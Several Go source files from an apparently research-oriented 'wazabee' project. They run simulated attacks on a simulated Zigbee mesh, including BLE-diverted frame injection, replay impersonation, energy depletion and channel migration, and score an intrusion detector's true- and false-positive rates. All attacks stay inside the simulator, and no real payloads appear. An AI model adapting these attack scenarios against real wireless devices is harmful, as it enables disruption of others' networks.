		t.Errorf("channel migration moved nothing: %+v", migration)
	}
	if migration.FramingDetected {
		t.Error("tracker-style attack flagged BLE framing")
	}

	for _, name := range []string{"energy-depletion", "sleep-deprivation"} {
		out := runScenario(t, name, Options{Seed: 3})
		if out.EnergyDrainedMicrojoules <= 0 {
			t.Errorf("%s drained %.1f µJ, want > 0", name, out.EnergyDrainedMicrojoules)
		}
	}

	replay := runScenario(t, "replay-impersonation", Options{Seed: 3})
	if replay.FramesInjected == 0 || replay.FramesAccepted == 0 {
		t.Errorf("replay injected nothing: %+v", replay)
	}
}

func TestBenignNoFalseAlertsAcrossSeeds(t *testing.T) {
	// The false-positive regression: at the calibrated default
	// threshold, three independent benign meshes must raise zero
	// framing and zero fingerprint alerts over their whole run.
	for _, seed := range []int64{1, 2, 3} {
		out := runScenario(t, "benign-baseline", Options{Seed: seed})
		for _, kind := range []string{"ble-framing", "modulation-fingerprint"} {
			if n := out.Alerts[kind]; n != 0 {
				t.Errorf("seed %d: %d %s false positives on benign traffic", seed, n, kind)
			}
		}
		if out.Detected {
			t.Errorf("seed %d: benign baseline detected (%s)", seed, out.FirstAlert)
		}
	}
}

func TestMatrixWorkerCountIndependence(t *testing.T) {
	sc, err := ByName("scenario-a-injection")
	if err != nil {
		t.Fatal(err)
	}
	spec := MatrixSpec{
		Scenarios:     []Scenario{sc},
		Thresholds:    []float64{0.27, 0.45},
		Trials:        20,
		Seed:          11,
		ImpactSamples: 1,
	}
	var digests []string
	var jsons [][]byte
	for _, workers := range []int{1, 3} {
		s := spec
		s.Workers = workers
		m, err := RunMatrix(context.Background(), s)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := m.WriteJSON(&buf); err != nil {
			t.Fatal(err)
		}
		digests = append(digests, m.Digest())
		jsons = append(jsons, buf.Bytes())
	}
	if digests[0] != digests[1] {
		t.Errorf("digest differs across worker counts: %s vs %s", digests[0], digests[1])
	}
	if !bytes.Equal(jsons[0], jsons[1]) {
		t.Error("matrix JSON differs across worker counts")
	}
}

func TestMatrixShape(t *testing.T) {
	sc, err := ByName("channel-migration")
	if err != nil {
		t.Fatal(err)
	}
	m, err := RunMatrix(context.Background(), MatrixSpec{
		Scenarios:     []Scenario{sc},
		Thresholds:    []float64{0.27},
		Trials:        5,
		Seed:          4,
		ImpactSamples: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	// The benign baseline rides along for the FPR column.
	if len(m.Scenarios) != 2 || m.Scenarios[0] != "benign-baseline" {
		t.Fatalf("scenarios = %v, want benign first", m.Scenarios)
	}
	if len(m.Cells) != 2 {
		t.Fatalf("cells = %d, want 2", len(m.Cells))
	}
	cell, ok := m.Cell("channel-migration", 0.27)
	if !ok {
		t.Fatal("channel-migration cell missing")
	}
	if !cell.Attack || cell.Trials != 5 {
		t.Errorf("cell = %+v", cell)
	}
	any, ok := cell.ROC(DetectorAny)
	if !ok || any.Trials != 5 {
		t.Fatalf("any-detector row = %+v, %v", any, ok)
	}
	if any.Lo > any.Rate || any.Rate > any.Hi {
		t.Errorf("Wilson interval [%v,%v] does not bracket rate %v", any.Lo, any.Hi, any.Rate)
	}
	total := 0
	for _, class := range Classes {
		total += cell.Counts[class]
	}
	if total != 5 {
		t.Errorf("class counts sum to %d, want 5: %v", total, cell.Counts)
	}
	if len(m.Impacts) != 2 {
		t.Errorf("impacts = %d, want 2", len(m.Impacts))
	}

	var csvBuf bytes.Buffer
	if err := m.WriteCSV(&csvBuf); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(csvBuf.String()), "\n")
	if want := 1 + len(m.Cells)*len(Detectors); len(lines) != want {
		t.Errorf("CSV rows = %d, want %d", len(lines), want)
	}
	if !strings.HasPrefix(lines[0], "scenario,threshold,attack,detector") {
		t.Errorf("CSV header = %q", lines[0])
	}

	var txt bytes.Buffer
	if err := m.WriteText(&txt); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"channel-migration", "benign-baseline", "TPR", "FPR", "impact"} {
		if !strings.Contains(txt.String(), want) {
			t.Errorf("text table missing %q", want)
		}
	}
}

func TestParseScenarios(t *testing.T) {
	all, err := ParseScenarios("all")
	if err != nil || len(all) != len(Catalogue()) {
		t.Fatalf("ParseScenarios(all) = %d scenarios, err %v", len(all), err)
	}
	empty, err := ParseScenarios("")
	if err != nil || len(empty) != len(Catalogue()) {
		t.Fatalf("ParseScenarios(\"\") = %d scenarios, err %v", len(empty), err)
	}
	// Selection preserves catalogue order and dedupes.
	sel, err := ParseScenarios("channel-migration, benign-baseline,channel-migration")
	if err != nil {
		t.Fatal(err)
	}
	if len(sel) != 2 || sel[0].Name() != "benign-baseline" || sel[1].Name() != "channel-migration" {
		names := make([]string, len(sel))
		for i, s := range sel {
			names[i] = s.Name()
		}
		t.Errorf("selection = %v, want catalogue-ordered dedupe", names)
	}
	if _, err := ParseScenarios("no-such-scenario"); err == nil {
		t.Error("unknown scenario accepted")
	}
	if _, err := ParseScenarios(" , "); err == nil {
		t.Error("blank selection accepted")
	}
}

func TestOutcomeClassMapping(t *testing.T) {
	cases := []struct {
		fp, fr bool
		want   string
	}{
		{false, false, ClassUndetected},
		{true, false, ClassFingerprint},
		{false, true, ClassFraming},
		{true, true, ClassBoth},
	}
	for _, tc := range cases {
		o := Outcome{FingerprintDetected: tc.fp, FramingDetected: tc.fr}
		if got := o.class(); got != tc.want {
			t.Errorf("class(fp=%v, fr=%v) = %s, want %s", tc.fp, tc.fr, got, tc.want)
		}
	}
}

func TestMatrixSpecValidation(t *testing.T) {
	if _, err := RunMatrix(context.Background(), MatrixSpec{Thresholds: []float64{-0.1}}); err == nil {
		t.Error("negative threshold accepted")
	}
}
