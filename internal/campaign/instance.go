package campaign

import (
	"fmt"
	"math/rand"
	"time"

	"wazabee/internal/ids"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/zigbee/sim"
)

// The frame-tier fingerprint model: at symbol and frame fidelity no
// waveform exists to despread, so the monitor's soft-EVM statistic is
// drawn from the distributions the IQ tier measures (internal/ids
// calibration: native O-QPSK below 0.2 rad above ~12 dB SNR, diverted
// GFSK above 0.33 rad). Below that SNR the noise floor widens both
// populations — the same loss of discrimination the IQ detector
// documents.
const (
	nativeEVMMean    = 0.12
	nativeEVMSigma   = 0.025
	divertedEVMMean  = 0.38
	divertedEVMSigma = 0.035
	// evmLowSNRWiden is how much one dB below the 12 dB knee adds to
	// both distributions' spread (and the native mean's floor).
	evmLowSNRWiden = 0.01
	evmSNRKnee     = 12.0
	// framingDetectProb is the chance the monitor catches the BLE
	// advertising framing around one scenario A frame — the header is
	// short and a real scanner duty-cycles.
	framingDetectProb = 0.7
)

// splitmix64 is the SplitMix64 finaliser, mirrored from the simulator's
// seed discipline so the campaign's draws stay structured the same way.
func splitmix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// evmModel draws per-frame monitor features. Draws are keyed on the
// global capture sequence number — deterministic and batch-order
// independent — never on shared stream state.
type evmModel struct {
	seed  int64
	snrDB float64
}

// draw produces one frame's features: the soft-EVM statistic from the
// appropriate calibrated distribution, and whether BLE framing was
// spotted (only ever true for attacker frames that carry it).
func (m *evmModel) draw(seq uint64, diverted, framed bool) (evm float64, framingSeen bool) {
	h := splitmix64(uint64(m.seed) ^ 0xca3afee1)
	h = splitmix64(h ^ seq)
	if diverted {
		h = splitmix64(h ^ 0x5eed)
	}
	rng := rand.New(rand.NewSource(int64(h)))
	mean, sigma := nativeEVMMean, nativeEVMSigma
	if diverted {
		mean, sigma = divertedEVMMean, divertedEVMSigma
	}
	if m.snrDB < evmSNRKnee {
		widen := (evmSNRKnee - m.snrDB) * evmLowSNRWiden
		sigma += widen
		if !diverted {
			mean += widen
		}
	}
	evm = mean + sigma*rng.NormFloat64()
	if evm < 0 {
		evm = 0
	}
	if framed {
		framingSeen = rng.Float64() < framingDetectProb
	}
	return evm, framingSeen
}

// instance is the shared scenario machinery: one star mesh under
// monitoring, an optional intruder with a scheduled attack plan, and an
// optional same-seed attack-free twin for energy-surplus scoring.
type instance struct {
	sc   *scenario
	opts Options

	nw   *sim.Network
	base *sim.Network // attack-free twin (nil unless sc.energyTwin)
	intr *sim.Intruder
	mon  *ids.FrameMonitor
	model evmModel

	duration    time.Duration
	attackStart time.Duration

	// detection record, mutated by the tap on the event loop.
	firstAlertAt   time.Duration
	firstAlertKind string
	alertFrames    int
	alerts         map[string]int
	fingerprint    bool // fired inside the attack window
	framing        bool

	replayPSDU []byte // replay scenario: first legit data frame captured

	planErr error
	ran     bool
}

// newInstance builds the mesh, monitor and attack schedule for one
// scenario at the given options.
func newInstance(sc *scenario, opts Options) (*instance, error) {
	opts.fill()
	it := &instance{
		sc:           sc,
		opts:         opts,
		model:        evmModel{seed: opts.Seed, snrDB: opts.SNRdB},
		duration:     opts.Duration,
		attackStart:  sc.attackStart,
		firstAlertAt: -1,
		alerts:       map[string]int{},
	}
	if it.attackStart <= 0 {
		it.attackStart = DefaultAttackStart
	}
	cfg := sim.Config{
		Seed:      opts.Seed,
		SNRdB:     opts.SNRdB,
		Fidelity:  opts.Fidelity,
		Telemetry: true,
		Chip:      opts.Chip,
		// Each instance gets a private registry: Monte-Carlo trials must
		// not grow per-node series on the process default.
		Registry: obs.NewRegistry(),
		Flight:   obs.NewFlight(64),
	}
	nw, err := sim.New(sim.Star(opts.Devices), cfg)
	if err != nil {
		return nil, err
	}
	it.nw = nw
	it.mon = &ids.FrameMonitor{
		FingerprintThreshold: opts.Threshold,
		ChannelExpected:      true,
		Obs:                  cfg.Registry,
	}
	nw.Tap(sim.DefaultChannel, it.inspect)

	if sc.attack {
		intr, err := nw.NewIntruder(sim.DefaultChannel)
		if err != nil {
			return nil, err
		}
		it.intr = intr
		sc.plan(it)
	}
	if sc.energyTwin {
		baseCfg := cfg
		baseCfg.Registry = obs.NewRegistry()
		baseCfg.Flight = obs.NewFlight(64)
		base, err := sim.New(sim.Star(opts.Devices), baseCfg)
		if err != nil {
			return nil, err
		}
		it.base = base
	}
	return it, nil
}

// inspect is the monitor tap: every non-collided frame on the victim
// channel is judged at the frame tier. Alerts inside the attack window
// count towards detection; everything is tallied.
func (it *instance) inspect(fc sim.FrameCapture) {
	if fc.Collided {
		return // two overlapped frames demodulate as neither
	}
	attacker := fc.Src == sim.IntruderSrc
	evm, framingSeen := it.model.draw(fc.Seq, attacker, attacker && it.sc.bleFraming)
	v := it.mon.Judge(ids.FrameFeatures{SoftEVM: evm, BLEFraming: framingSeen})
	if !v.Suspicious() {
		return
	}
	it.alertFrames++
	for _, a := range v.Alerts {
		it.alerts[a.Kind.String()]++
	}
	inWindow := !it.sc.attack || fc.At >= it.attackStart
	if !inWindow {
		return
	}
	for _, a := range v.Alerts {
		switch a.Kind {
		case ids.AlertModulationFingerprint:
			it.fingerprint = true
		case ids.AlertBLEFraming:
			it.framing = true
		}
	}
	if it.firstAlertAt < 0 {
		it.firstAlertAt = fc.At
		it.firstAlertKind = v.Alerts[0].Kind.String()
	}
}

// transmit forges one frame from the intruder, recording the first
// scheduling error (a plan bug, surfaced by Run).
func (it *instance) transmit(to int, frame *ieee802154.MACFrame, needAck bool) {
	if err := it.intr.Transmit(to, frame, needAck); err != nil && it.planErr == nil {
		it.planErr = err
	}
}

// Run executes the scenario (and its attack-free twin) through the
// configured virtual duration.
func (it *instance) Run() error {
	it.nw.Run(it.duration)
	if it.base != nil {
		it.base.Run(it.duration)
	}
	it.ran = true
	if it.planErr != nil {
		return fmt.Errorf("campaign: %s attack plan: %w", it.sc.name, it.planErr)
	}
	return nil
}

// Score folds the completed run into its Outcome.
func (it *instance) Score() Outcome {
	stats := it.nw.Stats()
	snap := it.nw.Snapshot()
	out := Outcome{
		Scenario:          it.sc.name,
		Seed:              it.opts.Seed,
		DetectionLatency:  -1,
		AlertFrames:       it.alertFrames,
		FramesInjected:    stats.Injected,
		FramesAccepted:    stats.InjectedDelivered,
		ChannelMigrations: stats.ChannelMigrations,
		Readings:          stats.Readings,
		EnergyMicrojoules: snap.EnergyMicrojoules,
	}
	if len(it.alerts) > 0 {
		out.Alerts = make(map[string]int, len(it.alerts))
		for k, v := range it.alerts {
			out.Alerts[k] = v
		}
	}
	out.FingerprintDetected = it.fingerprint
	out.FramingDetected = it.framing
	if it.firstAlertAt >= 0 {
		out.Detected = true
		out.FirstAlert = it.firstAlertKind
		start := it.attackStart
		if !it.sc.attack {
			start = 0
		}
		out.DetectionLatency = it.firstAlertAt - start
	}
	if disrupted := stats.Nodes - stats.Joined; disrupted > 0 {
		out.NodesDisrupted = disrupted
	}
	if it.base != nil {
		out.EnergyDrainedMicrojoules = activeMicrojoules(it.nw, it.opts.Chip) -
			activeMicrojoules(it.base, it.opts.Chip)
	}
	return out
}

// activeMicrojoules sums the victims' radio energy spent outside the
// idle-listening state — TX, RX, CCA and turnaround time a duty-cycled
// device would otherwise have slept through. This is the quantity a
// depletion flood inflates; total energy cannot exceed the always-on
// baseline in this MAC (idle and RX draw the same current).
func activeMicrojoules(nw *sim.Network, chip string) float64 {
	profile, err := sim.ProfileByName(chip)
	if err != nil {
		// Options.fill and sim.New validated the chip already.
		panic(err)
	}
	var uj float64
	for _, ns := range nw.NodeStats() {
		dur := ns.RadioTime
		dur[sim.RadioIdle] = 0
		uj += profile.Microjoules(dur)
	}
	return uj
}
