package campaign

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strconv"
	"time"

	"wazabee/internal/experiment/runner"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

// Metric families published by the campaign driver. The runner's own
// wazabee_runner_* families cover trial-level progress; these summarise
// the campaign sweep itself.
const (
	// CellsMetric counts (scenario, threshold) cells swept.
	CellsMetric = "wazabee_campaign_cells_total"
	// TrialsMetric counts scenario runs executed, including impact samples.
	TrialsMetric = "wazabee_campaign_trials_total"
	// DetectionsMetric counts trials on which each detector fired.
	DetectionsMetric = "wazabee_campaign_detections_total"
	// ImpactSamplesMetric counts the serial impact-measurement runs.
	ImpactSamplesMetric = "wazabee_campaign_impact_samples_total"
)

// DefaultThresholds is the IDS operating-point sweep: 0.22 sits inside
// the native O-QPSK tail (false positives become measurable), 0.27 is
// the calibrated default, 0.45 is past the diverted GFSK mean (true
// positives become scarce). Together they trace a non-degenerate ROC.
var DefaultThresholds = []float64{0.22, 0.27, 0.45}

// DefaultImpactSamples is how many serial scenario runs feed the
// per-scenario impact averages.
const DefaultImpactSamples = 5

// Outcome classes the matrix tallies. A trial's class names which
// detectors fired inside the attack window.
const (
	ClassUndetected  = "undetected"
	ClassFingerprint = "fingerprint"
	ClassFraming     = "framing"
	ClassBoth        = "framing+fingerprint"
)

// Classes is the full outcome class set, in report order.
var Classes = []string{ClassUndetected, ClassFingerprint, ClassFraming, ClassBoth}

// class maps a scored outcome onto the runner's class alphabet.
func (o *Outcome) class() string {
	switch {
	case o.FramingDetected && o.FingerprintDetected:
		return ClassBoth
	case o.FramingDetected:
		return ClassFraming
	case o.FingerprintDetected:
		return ClassFingerprint
	default:
		return ClassUndetected
	}
}

// MatrixSpec parameterises a campaign sweep: every selected scenario
// crossed with every IDS threshold, each cell a Monte-Carlo point.
type MatrixSpec struct {
	// Scenarios selects catalogue entries; empty means the whole
	// catalogue. The benign baseline is always included — it supplies
	// the false-positive rate for every threshold.
	Scenarios []Scenario
	// Thresholds is the IDS operating-point sweep; empty selects
	// DefaultThresholds.
	Thresholds []float64
	// Trials is the Monte-Carlo sample size per cell; <= 0 means 200.
	Trials int
	// Seed roots every trial's derived seed.
	Seed int64
	// Workers bounds the runner's pool; <= 0 means GOMAXPROCS.
	Workers int
	// Fidelity, SNRdB, Duration, Devices, Chip parameterise every
	// scenario instance (zero values select the Options defaults).
	Fidelity radio.Fidelity
	SNRdB    float64
	Duration time.Duration
	Devices  int
	Chip     string
	// ImpactSamples is the number of serial runs behind each scenario's
	// impact averages; <= 0 means DefaultImpactSamples.
	ImpactSamples int
	// Checkpoint, when non-empty, makes the sweep resumable.
	Checkpoint string
	// Obs receives campaign and runner telemetry; nil falls back to the
	// process default registry.
	Obs *obs.Registry
}

// DefaultTrials is the per-cell sample size when the spec names none.
const DefaultTrials = 200

func (s *MatrixSpec) fill() error {
	if len(s.Scenarios) == 0 {
		s.Scenarios = Catalogue()
	} else {
		hasBenign := false
		for _, sc := range s.Scenarios {
			if !sc.Attack() {
				hasBenign = true
			}
		}
		if !hasBenign {
			benign, err := ByName("benign-baseline")
			if err != nil {
				return err
			}
			s.Scenarios = append([]Scenario{benign}, s.Scenarios...)
		}
	}
	if len(s.Thresholds) == 0 {
		s.Thresholds = append([]float64(nil), DefaultThresholds...)
	}
	for _, th := range s.Thresholds {
		if th <= 0 {
			return fmt.Errorf("campaign: threshold %g <= 0", th)
		}
	}
	if s.Trials <= 0 {
		s.Trials = DefaultTrials
	}
	if s.ImpactSamples <= 0 {
		s.ImpactSamples = DefaultImpactSamples
	}
	return nil
}

// options builds one trial's scenario Options from the sweep parameters.
func (s *MatrixSpec) options(seed int64, threshold float64) Options {
	return Options{
		Seed:      seed,
		Fidelity:  s.Fidelity,
		Threshold: threshold,
		SNRdB:     s.SNRdB,
		Duration:  s.Duration,
		Devices:   s.Devices,
		Chip:      s.Chip,
	}
}

// CellKey names one (scenario, threshold) cell — the runner point key
// and the checkpoint identity.
func CellKey(scenario string, threshold float64) string {
	return fmt.Sprintf("%s@%.3f", scenario, threshold)
}

// DetectorROC is one detector's rate at one cell, with its 95% Wilson
// interval. For attack scenarios the rate is a true-positive rate; for
// the benign baseline it is the false-positive rate at that threshold.
type DetectorROC struct {
	Detector string  `json:"detector"`
	Count    int     `json:"count"`
	Trials   int     `json:"trials"`
	Rate     float64 `json:"rate"`
	Lo       float64 `json:"lo"`
	Hi       float64 `json:"hi"`
}

// Detector names used in DetectorROC rows.
const (
	DetectorAny         = "any"
	DetectorFingerprint = "fingerprint"
	DetectorFraming     = "framing"
)

// Detectors lists the ROC detector columns in report order.
var Detectors = []string{DetectorAny, DetectorFingerprint, DetectorFraming}

// Cell is one (scenario, threshold) cell of the matrix.
type Cell struct {
	Scenario  string  `json:"scenario"`
	Threshold float64 `json:"threshold"`
	// Attack distinguishes TPR cells from FPR (benign) cells.
	Attack bool `json:"attack"`
	Trials int  `json:"trials"`
	// Counts tallies trials by outcome class.
	Counts map[string]int `json:"counts"`
	// Detection holds one row per detector, in Detectors order.
	Detection []DetectorROC `json:"detection"`
	// MeanLatencySeconds averages detection latency over the detected
	// trials only; 0 when nothing was detected.
	MeanLatencySeconds float64 `json:"mean_latency_seconds"`
}

// ROC returns the named detector's row and false when absent.
func (c *Cell) ROC(detector string) (DetectorROC, bool) {
	for _, d := range c.Detection {
		if d.Detector == detector {
			return d, true
		}
	}
	return DetectorROC{}, false
}

// Impact is one scenario's averaged attack-effect measurements over the
// serial impact samples (taken at the default threshold — detection
// thresholds do not feed back into the mesh, so impact is
// threshold-independent).
type Impact struct {
	Scenario                 string  `json:"scenario"`
	Samples                  int     `json:"samples"`
	FramesInjected           float64 `json:"frames_injected"`
	FramesAccepted           float64 `json:"frames_accepted"`
	NodesDisrupted           float64 `json:"nodes_disrupted"`
	ChannelMigrations        float64 `json:"channel_migrations"`
	Readings                 float64 `json:"readings"`
	EnergyMicrojoules        float64 `json:"energy_microjoules"`
	EnergyDrainedMicrojoules float64 `json:"energy_drained_microjoules"`
}

// Matrix is a completed campaign sweep: the attack-vs-detection ROC
// matrix plus per-scenario impact averages. It contains no timing, so
// byte-comparing two marshalled matrices is a valid determinism check.
type Matrix struct {
	Name       string    `json:"name"`
	Seed       int64     `json:"seed"`
	Fidelity   string    `json:"fidelity"`
	Trials     int       `json:"trials_per_cell"`
	Scenarios  []string  `json:"scenarios"`
	Thresholds []float64 `json:"thresholds"`
	Cells      []Cell    `json:"cells"`
	Impacts    []Impact  `json:"impacts"`
}

// Cell returns the named cell and false when absent.
func (m *Matrix) Cell(scenario string, threshold float64) (*Cell, bool) {
	for i := range m.Cells {
		if m.Cells[i].Scenario == scenario && m.Cells[i].Threshold == threshold {
			return &m.Cells[i], true
		}
	}
	return nil, false
}

// RunMatrix executes the sweep: every (scenario, threshold) cell as a
// Monte-Carlo point on the experiment runner (bit-identical at any
// worker count, resumable through spec.Checkpoint), then the serial
// impact samples. The benign baseline rides along at every threshold,
// so each attack cell's TPR has a same-threshold FPR to compare with.
func RunMatrix(ctx context.Context, spec MatrixSpec) (*Matrix, error) {
	if err := spec.fill(); err != nil {
		return nil, err
	}
	reg := obs.Or(spec.Obs)
	trialsC := reg.Counter(TrialsMetric)

	byKey := make(map[string]struct {
		sc Scenario
		th float64
	}, len(spec.Scenarios)*len(spec.Thresholds))
	var points []runner.Point
	for _, sc := range spec.Scenarios {
		for _, th := range spec.Thresholds {
			key := CellKey(sc.Name(), th)
			byKey[key] = struct {
				sc Scenario
				th float64
			}{sc, th}
			points = append(points, runner.Point{Key: key, Trials: spec.Trials})
		}
	}
	reg.Counter(CellsMetric).Add(uint64(len(points)))

	trial := func(ctx context.Context, seed int64, point runner.Point, _ int) (runner.Outcome, error) {
		cell, ok := byKey[point.Key]
		if !ok {
			return runner.Outcome{}, fmt.Errorf("campaign: unknown cell %q", point.Key)
		}
		inst, err := cell.sc.Setup(spec.options(seed, cell.th))
		if err != nil {
			return runner.Outcome{}, err
		}
		if err := inst.Run(); err != nil {
			return runner.Outcome{}, err
		}
		out := inst.Score()
		trialsC.Inc()
		latency := 0.0
		if out.Detected {
			latency = out.DetectionLatency.Seconds()
		}
		return runner.Outcome{Class: out.class(), Value: latency}, nil
	}

	res, err := runner.Run(ctx, runner.Spec{
		Name:       "campaign",
		Seed:       spec.Seed,
		Points:     points,
		Workers:    spec.Workers,
		Classes:    Classes,
		Checkpoint: spec.Checkpoint,
		Obs:        spec.Obs,
	}, trial)
	if err != nil {
		return nil, err
	}

	m := &Matrix{
		Name:       "campaign",
		Seed:       spec.Seed,
		Fidelity:   resolveFidelity(spec.Fidelity).String(),
		Trials:     spec.Trials,
		Thresholds: append([]float64(nil), spec.Thresholds...),
	}
	for _, sc := range spec.Scenarios {
		m.Scenarios = append(m.Scenarios, sc.Name())
	}
	for _, pr := range res.Points {
		cell, ok := byKey[pr.Point.Key]
		if !ok {
			return nil, fmt.Errorf("campaign: runner returned unknown point %q", pr.Point.Key)
		}
		m.Cells = append(m.Cells, reduceCell(cell.sc, cell.th, &pr, reg))
	}

	impacts, err := measureImpacts(ctx, &spec, reg)
	if err != nil {
		return nil, err
	}
	m.Impacts = impacts
	return m, nil
}

// resolveFidelity mirrors Options.fill's default for reporting.
func resolveFidelity(f radio.Fidelity) radio.Fidelity {
	if f == 0 {
		return radio.FidelityFrame
	}
	return f
}

// reduceCell folds one runner point into its matrix cell.
func reduceCell(sc Scenario, th float64, pr *runner.PointResult, reg *obs.Registry) Cell {
	c := Cell{
		Scenario:  sc.Name(),
		Threshold: th,
		Attack:    sc.Attack(),
		Trials:    pr.Trials,
		Counts:    pr.Counts,
	}
	detected := pr.Trials - pr.Counts[ClassUndetected]
	rows := []struct {
		name  string
		count int
	}{
		{DetectorAny, detected},
		{DetectorFingerprint, pr.Counts[ClassFingerprint] + pr.Counts[ClassBoth]},
		{DetectorFraming, pr.Counts[ClassFraming] + pr.Counts[ClassBoth]},
	}
	for _, row := range rows {
		lo, hi := runner.Wilson(row.count, pr.Trials)
		rate := 0.0
		if pr.Trials > 0 {
			rate = float64(row.count) / float64(pr.Trials)
		}
		c.Detection = append(c.Detection, DetectorROC{
			Detector: row.name, Count: row.count, Trials: pr.Trials,
			Rate: rate, Lo: lo, Hi: hi,
		})
		reg.Counter(DetectionsMetric, "detector", row.name).Add(uint64(row.count))
	}
	// pr.Mean averages latency over every counted trial (undetected
	// contribute 0); renormalise to the detected population.
	if detected > 0 {
		c.MeanLatencySeconds = pr.Mean * float64(pr.Trials) / float64(detected)
	}
	return c
}

// measureImpacts runs the serial impact samples: a few full scenario
// runs per catalogue entry, averaged. Serial execution after the
// parallel matrix keeps the whole campaign's output independent of the
// worker count.
func measureImpacts(ctx context.Context, spec *MatrixSpec, reg *obs.Registry) ([]Impact, error) {
	samplesC := reg.Counter(ImpactSamplesMetric)
	trialsC := reg.Counter(TrialsMetric)
	var impacts []Impact
	for _, sc := range spec.Scenarios {
		imp := Impact{Scenario: sc.Name(), Samples: spec.ImpactSamples}
		for i := 0; i < spec.ImpactSamples; i++ {
			if err := ctx.Err(); err != nil {
				return nil, err
			}
			seed := runner.TrialSeed(spec.Seed, sc.Name()+"/impact", i)
			inst, err := sc.Setup(spec.options(seed, 0))
			if err != nil {
				return nil, err
			}
			if err := inst.Run(); err != nil {
				return nil, fmt.Errorf("campaign: impact sample %d of %s: %w", i, sc.Name(), err)
			}
			out := inst.Score()
			imp.FramesInjected += float64(out.FramesInjected)
			imp.FramesAccepted += float64(out.FramesAccepted)
			imp.NodesDisrupted += float64(out.NodesDisrupted)
			imp.ChannelMigrations += float64(out.ChannelMigrations)
			imp.Readings += float64(out.Readings)
			imp.EnergyMicrojoules += out.EnergyMicrojoules
			imp.EnergyDrainedMicrojoules += out.EnergyDrainedMicrojoules
			samplesC.Inc()
			trialsC.Inc()
		}
		n := float64(spec.ImpactSamples)
		imp.FramesInjected /= n
		imp.FramesAccepted /= n
		imp.NodesDisrupted /= n
		imp.ChannelMigrations /= n
		imp.Readings /= n
		imp.EnergyMicrojoules /= n
		imp.EnergyDrainedMicrojoules /= n
		impacts = append(impacts, imp)
	}
	return impacts, nil
}

// WriteJSON emits the matrix as indented JSON. The encoding is
// deterministic (struct field order; map keys sorted), so the bytes —
// and Digest — are a same-seed identity check at any worker count.
func (m *Matrix) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(m)
}

// Digest is the SHA-256 of the matrix's compact JSON encoding.
func (m *Matrix) Digest() string {
	b, err := json.Marshal(m)
	if err != nil {
		// Matrix contains only marshalable field types.
		panic(fmt.Sprintf("campaign: marshal matrix: %v", err))
	}
	return fmt.Sprintf("%x", sha256.Sum256(b))
}

// WriteCSV emits one row per (cell, detector): the flat form for
// plotting ROC curves.
func (m *Matrix) WriteCSV(w io.Writer) error {
	cw := csv.NewWriter(w)
	if err := cw.Write([]string{
		"scenario", "threshold", "attack", "detector",
		"count", "trials", "rate", "lo", "hi", "mean_latency_seconds",
	}); err != nil {
		return err
	}
	for i := range m.Cells {
		c := &m.Cells[i]
		for _, d := range c.Detection {
			rec := []string{
				c.Scenario,
				strconv.FormatFloat(c.Threshold, 'f', 3, 64),
				strconv.FormatBool(c.Attack),
				d.Detector,
				strconv.Itoa(d.Count),
				strconv.Itoa(d.Trials),
				strconv.FormatFloat(d.Rate, 'f', 4, 64),
				strconv.FormatFloat(d.Lo, 'f', 4, 64),
				strconv.FormatFloat(d.Hi, 'f', 4, 64),
				strconv.FormatFloat(c.MeanLatencySeconds, 'f', 4, 64),
			}
			if err := cw.Write(rec); err != nil {
				return err
			}
		}
	}
	cw.Flush()
	return cw.Error()
}

// WriteText renders the human-readable ROC table: one block per
// threshold, one row per scenario, the detection rate (TPR, or FPR on
// the benign row) with its Wilson interval per detector, and the mean
// detection latency.
func (m *Matrix) WriteText(w io.Writer) error {
	for _, th := range m.Thresholds {
		if _, err := fmt.Fprintf(w, "threshold %.3f (trials/cell %d, fidelity %s, seed %d)\n",
			th, m.Trials, m.Fidelity, m.Seed); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(w, "  %-22s %-5s %-22s %-22s %-22s %s\n",
			"scenario", "kind", "any", "fingerprint", "framing", "latency"); err != nil {
			return err
		}
		for _, name := range m.Scenarios {
			c, ok := m.Cell(name, th)
			if !ok {
				continue
			}
			kind := "FPR"
			if c.Attack {
				kind = "TPR"
			}
			row := fmt.Sprintf("  %-22s %-5s", c.Scenario, kind)
			for _, det := range Detectors {
				d, _ := c.ROC(det)
				row += fmt.Sprintf(" %-22s", fmt.Sprintf("%.3f [%.3f,%.3f]", d.Rate, d.Lo, d.Hi))
			}
			if any, _ := c.ROC(DetectorAny); any.Count > 0 {
				row += fmt.Sprintf(" %.2fs", c.MeanLatencySeconds)
			} else {
				row += " -"
			}
			if _, err := fmt.Fprintln(w, row); err != nil {
				return err
			}
		}
		if _, err := fmt.Fprintln(w); err != nil {
			return err
		}
	}
	if len(m.Impacts) == 0 {
		return nil
	}
	if _, err := fmt.Fprintf(w, "impact (mean of %d runs/scenario)\n", m.Impacts[0].Samples); err != nil {
		return err
	}
	if _, err := fmt.Fprintf(w, "  %-22s %9s %9s %10s %9s %9s %12s %12s\n",
		"scenario", "injected", "accepted", "disrupted", "migrated", "readings", "energy(uJ)", "drained(uJ)"); err != nil {
		return err
	}
	for _, imp := range m.Impacts {
		if _, err := fmt.Fprintf(w, "  %-22s %9.1f %9.1f %10.1f %9.1f %9.1f %12.1f %12.1f\n",
			imp.Scenario, imp.FramesInjected, imp.FramesAccepted, imp.NodesDisrupted,
			imp.ChannelMigrations, imp.Readings, imp.EnergyMicrojoules,
			imp.EnergyDrainedMicrojoules); err != nil {
			return err
		}
	}
	return nil
}
