// Package campaign is the attack/defense campaign engine: a catalogue
// of attack scenarios executed against internal/zigbee/sim meshes, each
// scored into a structured Outcome (detection latency, frames injected
// and accepted, energy drained, nodes disrupted), and a Monte-Carlo
// driver that sweeps every (scenario, IDS-threshold) cell on
// internal/experiment/runner to produce an attack-vs-detection ROC
// matrix with Wilson confidence intervals.
//
